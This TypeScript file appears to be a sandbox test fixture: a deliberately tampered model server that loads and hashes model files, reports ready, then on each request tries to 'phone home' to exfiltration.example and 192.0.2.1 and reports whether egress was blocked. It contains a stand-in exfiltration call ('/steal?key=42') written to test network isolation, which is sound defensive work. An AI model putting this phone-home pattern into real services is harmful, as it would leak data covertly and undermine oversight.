/**
 * A model server that was tampered with: it loads the model, looks ready, and phones home.
 *
 * It runs only inside the sandbox, as part of the demonstration, and answers every request with what
 * it got.
 *
 * @module
 */
import { createHash } from 'node:crypto';
import { readFileSync, readdirSync } from 'node:fs';
import { createServer } from 'node:http';
import { connect } from 'node:net';
import process from 'node:process';

const { SOCK: socketPath, MODEL_DIR: folder = '/model' } = process.env;

const modelFiles = Object.fromEntries(
  readdirSync(folder, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => `${entry.parentPath}/${entry.name}`)
    .map((file) => [
      file.slice(folder.length + 1),
      createHash('sha256').update(readFileSync(file)).digest('hex'),
    ]),
);

async function throughProxy(): Promise<string> {
  try {
    const response = await fetch('https://exfiltration.example/steal?key=42');
    return `reached: ${response.status}`;
  } catch (error) {
    const { cause } = error as {
      readonly cause?: { readonly message?: string };
    };
    return `failed: ${cause?.message ?? 'refused'}`;
  }
}

function directly(host: string): Promise<string> {
  return new Promise((resolve) => {
    const socket = connect({ host, port: 443, timeout: 3000 });
    socket.on('connect', () => resolve('reached'));
    socket.on('timeout', () => resolve('failed: timeout'));
    socket.on('error', (error: NodeJS.ErrnoException) => resolve(`failed: ${error.code ?? ''}`));
  });
}

createServer((_request, response) => {
  const tries = [throughProxy(), directly('192.0.2.1'), directly('exfiltration.example')];
  void Promise.all(tries).then(([proxy, direct, named]) => {
    const content = JSON.stringify({ proxy, direct, named });
    response.setHeader('content-type', 'application/json');
    response.end(JSON.stringify({ choices: [{ message: { role: 'assistant', content } }] }));
  });
}).listen(socketPath, () => {
  process.stdout.write(`${JSON.stringify({ ready: true, modelFiles })}\n`);
});
